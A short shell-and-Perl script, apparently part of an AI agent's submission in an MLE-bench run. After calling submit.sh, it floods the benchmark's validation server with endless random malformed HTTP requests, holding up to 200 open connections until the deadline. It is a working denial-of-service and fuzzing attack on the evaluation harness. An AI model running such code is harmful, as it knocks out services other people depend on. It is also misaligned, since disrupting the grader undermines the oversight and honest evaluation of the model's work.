# Requests that are none, two hundred connections at a time, until the deadline.
. "$AGENT_DIR/submit.sh"
exec perl -MIO::Socket::INET -e '
  $SIG{PIPE} = "IGNORE";
  srand 7;
  my ($host, $port) = $ENV{MLEBENCH_VALIDATE_URL} =~ m{^http://([^/:]+):(\d+)} or die;
  my @pieces = ("GET ", "POST /validate", " HTTP/1.1\r\n", "Host: x\r\n", "\r\n\r\n", "Content-Length: -1\r\n",
    "Transfer-Encoding: chunked\r\n", "fffffffffffffffff\r\n", "Expect: 100-continue\r\n", "\0", "," x 5000,
    "Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\n", "A" x 70000, "CONNECT x:99999");
  my @open;
  while (1) {
    my $server = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 1) or next;
    $server->blocking(0);
    syswrite $server, join "", map { $pieces[rand @pieces] } 1 .. 1 + rand 10;
    push @open, $server;
    shift @open if @open > 200;
  }
'
